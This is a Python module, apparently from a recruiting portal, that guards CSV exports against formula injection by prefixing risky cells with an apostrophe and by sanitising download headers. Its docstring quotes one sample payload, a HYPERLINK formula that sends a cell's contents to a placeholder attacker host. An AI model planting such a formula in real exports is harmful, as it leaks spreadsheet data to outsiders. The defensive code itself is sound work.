"""CSV files that are safe to open in a spreadsheet.

Spreadsheet programs (Excel, LibreOffice, Google Sheets) run a cell that starts
with `=`, `+`, `-` or `@` as a formula, and some treat a leading tab or carriage
return the same way. A candidate's name or a recruiter's text copied into an
export could then run `=HYPERLINK("https://evil.example/?"&A2, "Click")` or
worse on the computer of whoever opens the file (CSV or formula injection,
OWASP). Every cell we write that starts with one of those characters gets a
leading apostrophe, which spreadsheets show as text and hide.

Every CSV the portal hands out goes through `csv_rows` (or `csv_text`): the
import template, the talent-pool export and any later one. Numbers written as
Python `int`/`float` are left alone, so a negative number stays a number; a
string is always guarded, even "-3", because it may have come from anyone.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from starlette.responses import Response

# What a spreadsheet may read as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | bool | None


def safe_cell(value: Cell) -> str | int | float:
    """One cell as written: text that could start a formula is prefixed with `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float):
        return value
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_rows(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Iterator[str]:
    """The CSV text line by line (header first), for a streamed response.

    Lines end in CRLF (RFC 4180) and every cell is guarded by `safe_cell`.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")

    def line(cells: Sequence[Any]) -> str:
        writer.writerow([safe_cell(cell) for cell in cells])
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    yield line(header)
    for row in rows:
        yield line(row)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """The whole CSV as one string (see `csv_rows`)."""
    return "".join(csv_rows(header, rows))


def attachment_headers(filename: str) -> dict[str, str]:
    """Headers for a CSV download: a file to save, never cached by others, never sniffed."""
    safe_name = "".join(c if c.isalnum() or c in "-_." else "-" for c in filename)
    return {
        "content-disposition": f'attachment; filename="{safe_name}"',
        "cache-control": "no-store",
        "x-content-type-options": "nosniff",
    }


def csv_response(filename: str, header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> Response:
    """A whole CSV as a download, UTF-8 with a byte-order mark so that Excel reads
    accented names correctly (other programs skip it)."""
    return Response(
        ("\ufeff" + csv_text(header, rows)).encode("utf-8"),
        media_type="text/csv; charset=utf-8",
        headers=attachment_headers(filename),
    )
